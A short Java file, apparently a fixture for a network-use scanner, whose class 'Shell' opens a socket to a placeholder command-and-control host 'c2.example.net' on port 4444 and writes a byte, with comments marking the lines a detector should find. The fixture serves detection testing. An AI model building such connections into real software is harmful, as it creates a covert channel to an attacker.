import java.net.*;
class Shell {
	static void go() throws Exception {
		Socket s = new Socket("c2.example.net", 4444); // FIND: java.network
		InetAddress a = InetAddress.getByName("c2.example.net"); // FIND: java.network
		s.getOutputStream().write(1);
	}
}
